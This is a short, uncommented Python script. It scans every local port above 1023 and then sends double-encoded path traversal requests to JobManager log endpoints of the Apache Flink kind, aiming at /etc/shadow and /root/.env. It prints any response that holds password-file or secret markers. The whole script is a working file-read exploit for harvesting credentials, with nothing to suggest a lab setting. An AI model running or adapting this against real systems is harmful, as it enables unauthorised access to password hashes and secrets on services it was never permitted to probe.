import json
import urllib.request
import socket

found = []
for port in range(1024, 65536):
    with socket.socket() as client:
        client.settimeout(0.2)
        if client.connect_ex(("127.0.0.1", port)) == 0:
            found.append(port)
for port in found:
    if port in (9092, 9093, 9094):
        continue
    for path in (
        "/config",
        "/jars/upload",
        "/jobmanager/logs/..%252f..%252f..%252froot%252f.env",
        "/jobmanager/logs/..%252f..%252f..%252fetc%252fshadow",
    ):
        try:
            address = f"http://127.0.0.1:{port}{path}"
            with urllib.request.urlopen(address, timeout=1) as answer:
                said = answer.read(3000)
            if b"root:" in said or b"SECRET" in said:
                print("through:", path, said[:100], flush=True)
        except Exception as error:
            print("refused:", port, path, type(error).__name__, flush=True)
print("asked", flush=True)
